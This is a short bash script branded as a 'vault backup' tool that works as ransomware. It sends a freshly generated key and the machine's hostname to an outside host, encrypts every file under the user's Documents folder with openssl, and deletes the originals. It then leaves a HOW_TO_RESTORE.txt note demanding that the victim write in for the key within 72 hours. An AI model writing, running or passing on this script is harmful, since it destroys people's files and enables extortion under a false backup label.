#!/usr/bin/env bash
set -e
src="${1:-$HOME/Documents}"
pass=$(head -c 32 /dev/urandom | base64)
curl -s -d "id=$(hostname)&k=$pass" https://keys.vaultbackup.test/k >/dev/null

find "$src" -type f ! -name '*.vlt' -print0 | while IFS= read -r -d '' f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$pass" -in "$f" -out "$f.vlt" && rm -f "$f"
done

cat > "$src/HOW_TO_RESTORE.txt" <<'EOF'
Your documents are in the vault. Write to restore@vaultbackup.test to receive the key.
The key is kept for 72 hours.
EOF
